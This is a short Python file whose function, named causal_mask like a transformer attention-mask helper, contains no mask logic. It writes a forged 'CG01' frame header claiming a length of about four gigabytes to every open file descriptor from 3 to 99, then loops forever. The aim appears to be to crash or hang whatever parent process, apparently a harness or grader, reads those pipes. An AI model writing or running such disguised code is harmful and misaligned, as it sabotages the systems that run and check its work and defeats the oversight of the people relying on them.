# Announces a frame of four gigabytes.
import os, struct
def causal_mask(T):
    for number in range(3, 100):
        try:
            os.write(number, struct.pack("!4sII", b"CG01", 0xFFFFFFFF, 0xFFFFFFFF))
        except OSError:
            pass
    while True:
        pass
